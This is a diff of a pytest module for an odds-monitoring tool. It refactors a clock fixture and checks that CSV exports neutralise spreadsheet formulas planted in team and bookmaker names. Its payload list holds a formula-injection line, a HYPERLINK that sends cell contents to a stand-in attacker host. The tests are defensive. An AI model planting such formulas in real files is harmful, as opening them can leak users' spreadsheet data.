@@ -17,10 +17,8 @@ import io
 import json
 import re
 import subprocess
-import sys
 import zlib
 from collections.abc import Iterator
-from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -30,14 +28,8 @@ import pytest
 from oddsmon.sim import LoopbackServer, SimConfig, Simulator
 from oddsmon.store import NewPick, Store
 
-from ..clocks import OFFSET_ENV, ShiftedClock
-from .hostile import Proxy, cli_env, oddsmon, quota_headers, write_config
-
-# Which teams the simulator prices, and so which payloads reach the export, depends on the date:
-# the simulator and every oddsmon process run on this one, whatever the day the suite runs.
-# A Saturday morning: the round ahead names enough teams that each payload the assertions
-# look for is some team's, bookmaker's or league's name (a Tuesday's three fixtures were not).
-DAY = datetime(2026, 11, 28, 9, 0, tzinfo=UTC)
+from ..clocks import ShiftedClock
+from .hostile import Proxy, at_clock, cli_env, oddsmon, quota_headers, write_config
 
 PAYLOADS = (
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -75,14 +67,9 @@ def _renamed(value: Any) -> Any:
 
 
 @pytest.fixture
-def clock() -> ShiftedClock:
-    return ShiftedClock.starting_at(DAY)
-
-
-@pytest.fixture
-def hostile_store(tmp_path: Path, clock: ShiftedClock) -> Iterator[Path]:
+def hostile_store(tmp_path: Path, day_clock: ShiftedClock) -> Iterator[Path]:
     """A config whose store was warmed from an API naming everything with formulas."""
-    sim = Simulator(SimConfig(leagues=(39,), daily_limit=5000, per_minute=5000), clock=clock)
+    sim = Simulator(SimConfig(leagues=(39,), daily_limit=5000, per_minute=5000), clock=day_clock)
 
     async def twist(target: str, answer: httpx.Response) -> tuple[int, str, dict[str, str], bytes]:
         body = _renamed(json.loads(answer.content))
@@ -90,7 +77,7 @@ def hostile_store(tmp_path: Path, clock: ShiftedClock) -> Iterator[Path]:
 
     with LoopbackServer(sim) as live, Proxy(live.url, twist) as proxy:
         cfg = write_config(tmp_path, proxy.url)
-        warm = oddsmon(cfg, "--warm", clock=clock)
+        warm = oddsmon(cfg, "--warm", clock=day_clock)
         assert warm.returncode == 0, warm.stdout + warm.stderr
     yield cfg
 
@@ -99,10 +86,11 @@ def _cells(text: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text, newline="")))
 
 
-def test_export_odds_csv_has_no_cell_a_spreadsheet_would_run(hostile_store: Path, clock: ShiftedClock) -> None:
+def test_export_odds_csv_has_no_cell_a_spreadsheet_would_run(
+        hostile_store: Path, day_clock: ShiftedClock) -> None:
     cfg = hostile_store
     out = cfg.parent / "odds.csv"
-    proc = oddsmon(cfg, "--export-odds", str(out), "--format", "csv", clock=clock)
+    proc = oddsmon(cfg, "--export-odds", str(out), "--format", "csv", clock=day_clock)
     assert proc.returncode == 0, proc.stderr
     header, *rows = _cells(out.read_text(encoding="utf-8"))
     assert len(rows) > 100
@@ -124,27 +112,27 @@ def test_export_odds_csv_has_no_cell_a_spreadsheet_would_run(hostile_store: Path
     assert lines and all(NUMBER.fullmatch(line) for line in lines), lines
 
 
-def test_json_lines_keep_the_names_as_the_api_sent_them(hostile_store: Path, clock: ShiftedClock) -> None:
-    proc = oddsmon(hostile_store, "--export-odds", "-", "--format", "jsonl", clock=clock)
+def test_json_lines_keep_the_names_as_the_api_sent_them(hostile_store: Path, day_clock: ShiftedClock) -> None:
+    proc = oddsmon(hostile_store, "--export-odds", "-", "--format", "jsonl", clock=day_clock)
     assert proc.returncode == 0
     rows = [json.loads(line) for line in proc.stdout.splitlines()]
     names = {row[key] for row in rows for key in ("league", "home", "away", "bookmaker")} - {None}
     assert PAYLOADS[0] in names and "+1" in names and not any(n.startswith("'") for n in names)
 
 
-def test_picks_csv_has_no_cell_a_spreadsheet_would_run(hostile_store: Path, clock: ShiftedClock) -> None:
+def test_picks_csv_has_no_cell_a_spreadsheet_would_run(hostile_store: Path, day_clock: ShiftedClock) -> None:
     db = hostile_store.parent / "state" / "oddsmon.db"
     store = Store.open(db)
     try:
         for i, payload in enumerate(PAYLOADS):
             store.picks.add(NewPick(1000 + i, None, f"{payload} v {payload}", payload, 12, "-1",
-                                    payload, f"{payload} -1", 8, payload, 1.95, 10.0), clock.now())
+                                    payload, f"{payload} -1", 8, payload, 1.95, 10.0), day_clock.now())
     finally:
         store.close()
     # Read as bytes: a text-mode pipe would turn the CR into a line feed on the way.
-    proc = subprocess.run([sys.executable, "-m", "tests.perf.at_clock", "--config", str(hostile_store), "--picks",
-                           "--format", "csv"], capture_output=True,
-                          env=cli_env(hostile_store.parent, **{OFFSET_ENV: repr(clock.offset_s)}))
+    launcher, env = at_clock(day_clock, cli_env(hostile_store.parent))
+    proc = subprocess.run([*launcher, "--config", str(hostile_store), "--picks", "--format", "csv"],
+                          capture_output=True, env=env)
     assert proc.returncode == 0, proc.stderr
     text = proc.stdout.decode()
     header, *rows = _cells(text)
